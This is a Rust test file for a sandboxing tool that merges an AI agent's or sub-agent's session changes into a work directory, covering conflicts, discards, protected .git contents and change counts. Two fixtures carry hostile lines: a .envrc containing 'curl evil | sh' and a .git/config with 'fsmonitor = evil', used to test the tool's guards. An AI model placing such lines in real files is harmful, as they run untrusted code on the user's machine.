//! What the operator can do about conflicts, and what is merged of a sub-agent's.

use std::fs;
use std::path::PathBuf;

use ::record::{Kind, Segment};
use plane::store::SessionDirectory;
use plane::workspace::{Seen, Workspace};
use wire::command::{MergeAnswer, Reply, Request};

use crate::merging::{changed, diff, merged, of};
use crate::room::{Room, started, write};

fn apply(room: &Room, id: &str, paths: &[&str], over: &[&str]) -> MergeAnswer {
    let absolute = |paths: &[&str]| paths.iter().map(|path| room.path("work").join(path)).collect::<Vec<PathBuf>>();
    merged(room.yes(Request::Apply { select: of(id, &absolute(paths)), over: absolute(over) }))
}

fn left<'a>(answer: &'a MergeAnswer, path: &str) -> &'a str {
    answer.left.iter().find(|(left, _)| left == path).map_or("", |(_, why)| why)
}

fn recorded(room: &Room, id: &str) -> Vec<String> {
    let (replies, _) = room.ask(Request::Log { select: of(id, &[]), follow: false });
    let states = replies.iter().filter_map(|reply| match reply {
        Reply::Event(line) => match &line.event.kind {
            Kind::Merge { state, .. } => Some(state.clone()),
            _ => None,
        },
        _ => None,
    });
    states.collect()
}

fn there(room: &Room, path: &str) -> String {
    fs::read_to_string(room.path("work").join(path)).unwrap()
}

/// There was once no way to take what the session made but to discard nothing and copy by hand.
#[test]
fn what_was_changed_outside_goes_where_the_operator_saw_it_and_names_it() {
    let room = Room::new();
    let session = changed(&room);
    let id = session.record.id.clone();
    drop(session);
    fs::write(room.path("work/kept.txt"), "theirs\n").unwrap();
    fs::write(room.path("work/.envrc"), "his\n").unwrap();
    let all = apply(&room, &id, &[], &[]);
    assert!(
        left(&all, "kept.txt").starts_with("conflict") && left(&all, "kept.txt").contains("`bastide diff`"),
        "{all:?}"
    );
    // Nobody saw what stands there.
    let blind = apply(&room, &id, &[], &["kept.txt"]);
    assert!(left(&blind, "kept.txt").contains("look first"), "{blind:?}");
    assert_eq!((there(&room, "kept.txt").as_str(), blind.done.len()), ("theirs\n", 0));
    let shown = diff(&room, &id, &[]);
    let kept = shown.iter().find(|change| change.path == "kept.txt").unwrap();
    assert!(kept.diff.contains("in conflict") && kept.diff.contains("-theirs\n+after\n"), "{}", kept.diff);
    assert!(kept.held.as_ref().is_some_and(|why| why.contains("apply --over PATH") && why.contains("discard PATH")));
    // The directory is not the path; and what is not named stays.
    let above = apply(&room, &id, &[], &[""]);
    assert_eq!((there(&room, "kept.txt").as_str(), above.done.len()), ("theirs\n", 0));
    // What stands there by then is what was seen, or it is a conflict again.
    fs::write(room.path("work/kept.txt"), "theirs, later\n").unwrap();
    let late = apply(&room, &id, &[], &["kept.txt"]);
    assert!(left(&late, "kept.txt").starts_with("changed since you looked"), "{late:?}");
    assert_eq!(there(&room, "kept.txt"), "theirs, later\n");
    diff(&room, &id, &[]);
    let done = apply(&room, &id, &[], &["kept.txt"]);
    assert_eq!((&done.done[..], &done.left[..]), (&["kept.txt".to_owned()][..], &[][..]));
    assert_eq!(there(&room, "kept.txt"), "after\n");
    let [(path, file)] = &done.kept[..] else { panic!("{done:?}") };
    assert_eq!((path.as_str(), fs::read_to_string(file).unwrap().as_str()), ("kept.txt", "theirs, later\n"));
    let name = PathBuf::from(file).file_name().unwrap().to_string_lossy().into_owned();
    let said = recorded(&room, &id);
    assert!(said.iter().any(|state| state.starts_with("over what was changed outside") && state.contains(&name)));
    // What is guarded is named by it, too.
    let guarded = apply(&room, &id, &[], &[".envrc"]);
    assert_eq!((&guarded.done[..], there(&room, ".envrc").as_str()), (&[".envrc".to_owned()][..], "curl evil | sh\n"));
    assert!(!diff(&room, &id, &[]).iter().any(|change| change.path == "kept.txt" || change.path == ".envrc"));
}

#[test]
fn what_the_operator_keeps_is_no_conflict_any_more() {
    let room = Room::new();
    let session = changed(&room);
    let id = session.record.id.clone();
    drop(session);
    fs::write(room.path("work/kept.txt"), "theirs\n").unwrap();
    let kept = merged(room.yes(Request::Discard(of(&id, &[room.path("work/kept.txt")]))));
    assert_eq!(kept.done, ["kept.txt"]);
    assert!(!diff(&room, &id, &[]).iter().any(|change| change.path == "kept.txt"));
    assert_eq!(there(&room, "kept.txt"), "theirs\n");
}

/// A sub-agent's session: `files` are what it saw, each with what it made of it.
fn child(room: &Room, files: &[(&str, Option<&str>, &str)]) -> SessionDirectory {
    let mut session = room.begin("work", None);
    let copy = session.path.join("copy");
    for (path, was, _) in files {
        for top in [room.path("work"), copy.clone()] {
            fs::create_dir_all(&top).unwrap();
            if let Some(was) = was {
                fs::write(top.join(path), was).unwrap();
            }
        }
    }
    session.record.trees[0].view = Some(Seen { at: copy.clone(), granted: vec![(PathBuf::new(), true)] });
    session.save().unwrap();
    Workspace::begin(&session.record.trees[0].changes, &copy, None).unwrap();
    write(&session, Segment::Plane, &[started(&session)]);
    for (path, _, made) in files {
        let path = session.path.join("changes/0/upper").join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, made).unwrap();
    }
    session
}

/// What was merged differed from the copy, and was told as changed outside from then on.
#[test]
fn what_was_merged_of_a_sub_agents_is_no_change_any_more() {
    let room = Room::new();
    let session = child(&room, &[("a.txt", Some("old\n"), "new\n"), ("src/b.txt", None, "made\n")]);
    let (id, upper) = (session.record.id.clone(), session.path.join("changes/0/upper"));
    drop(session);
    // Its parent's, merged just now: what the copy was made of.
    fs::write(room.path("work/a.txt"), "old\n").unwrap();
    let done = apply(&room, &id, &[], &[]);
    assert_eq!((done.done, done.left), (vec!["a.txt".to_owned(), "src".into(), "src/b.txt".into()], Vec::new()));
    assert_eq!(diff(&room, &id, &[]), []);
    let Reply::Session(told) = room.yes(Request::Show(of(&id, &[]))) else { panic!() };
    assert_eq!(told.pending, Some(0));
    // What is changed after that is his, and the sub-agent's is not merged over it by itself.
    fs::write(room.path("work/a.txt"), "his\n").unwrap();
    assert_eq!((diff(&room, &id, &[]), apply(&room, &id, &[], &[]).done), (Vec::new(), Vec::new()));
    assert_eq!(there(&room, "a.txt"), "his\n");
    fs::write(upper.join("a.txt"), "newer\n").unwrap();
    let shown = diff(&room, &id, &[]);
    assert_eq!(shown.iter().map(|change| change.path.as_str()).collect::<Vec<_>>(), ["a.txt"]);
    let text = &shown[0].diff;
    assert!(text.contains("-old\n+his\n") && text.contains("-his\n+newer\n"), "{text}");
    assert!(left(&apply(&room, &id, &[], &[]), "a.txt").starts_with("conflict"));
    assert_eq!(apply(&room, &id, &[], &["a.txt"]).done, ["a.txt"]);
    assert_eq!((there(&room, "a.txt").as_str(), diff(&room, &id, &[]).len()), ("newer\n", 0));
}

/// `name it to merge it` was said of what is merged under no name.
#[test]
fn what_git_obeys_is_merged_under_no_name_and_told_so() {
    let room = Room::new();
    let session = changed(&room);
    let (id, upper) = (session.record.id.clone(), session.path.join("changes/0/upper"));
    drop(session);
    for path in ["work/.git/objects", "work/.git/refs"] {
        fs::create_dir_all(room.path(path)).unwrap();
    }
    fs::write(room.path("work/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::create_dir_all(upper.join(".git")).unwrap();
    fs::write(upper.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    let shown = diff(&room, &id, &[]);
    let git = shown.iter().find(|change| change.path == ".git").unwrap();
    assert!(git.held.as_ref().is_some_and(|why| why.starts_with("never merged")), "{git:?}");
    assert!(git.diff.contains("held: config (config)"), "{}", git.diff);
    for (named, over) in [(&[][..], &[][..]), (&[".git"], &[]), (&[".git/config"], &[]), (&[], &[".git"])] {
        let answer = apply(&room, &id, named, over);
        let told = answer.left.iter().filter(|(path, _)| path == ".git" || path == ".git/config");
        assert_eq!(told.filter(|(_, why)| why.starts_with("never merged")).count(), 1, "{answer:?}");
        assert!(!room.path("work/.git/config").exists());
    }
}

/// What was counted was the list, which ends where an answer does.
#[test]
fn the_counts_are_of_all_changes_where_the_lists_are_cut() {
    let room = Room::new();
    let session = changed(&room);
    let (id, upper) = (session.record.id.clone(), session.path.join("changes/0/upper"));
    drop(session);
    for number in 0..2200 {
        fs::write(upper.join(format!("{number:0250}")), "x").unwrap();
    }
    let Reply::Diff(shown) = room.yes(Request::Diff(of(&id, &[]))) else { panic!() };
    assert!(shown.changes.len() < 2000 && shown.changes.last().unwrap().path.ends_with("more)"));
    assert_eq!(shown.count, Some(2207));
    let answer = apply(&room, &id, &[], &[]);
    let counts = answer.counts.unwrap();
    assert!(answer.done.len() < 2200 && answer.done.last().unwrap().ends_with("more)"));
    assert_eq!((counts.done, counts.left), (2205, 2));
    let Reply::Diff(rest) = room.yes(Request::Diff(of(&id, &[]))) else { panic!() };
    assert_eq!((rest.changes.len(), rest.count), (2, None));
}

/// The hash of a file with a long run of zeros is none of its bytes alone: such a change could not be looked at, and
/// was left.
#[test]
fn a_file_with_many_zeros_is_seen_and_merged() {
    let room = Room::new();
    let session = changed(&room);
    let (id, upper) = (session.record.id.clone(), session.path.join("changes/0/upper"));
    drop(session);
    fs::write(upper.join("kept.txt"), [b"a".to_vec(), vec![0; 600 << 10]].concat()).unwrap();
    let shown = diff(&room, &id, &[]);
    let kept = shown.iter().find(|change| change.path == "kept.txt").unwrap();
    assert!(kept.diff.contains("differs"), "{}", kept.diff);
    assert!(apply(&room, &id, &["kept.txt"], &[]).done.contains(&"kept.txt".to_owned()));
}
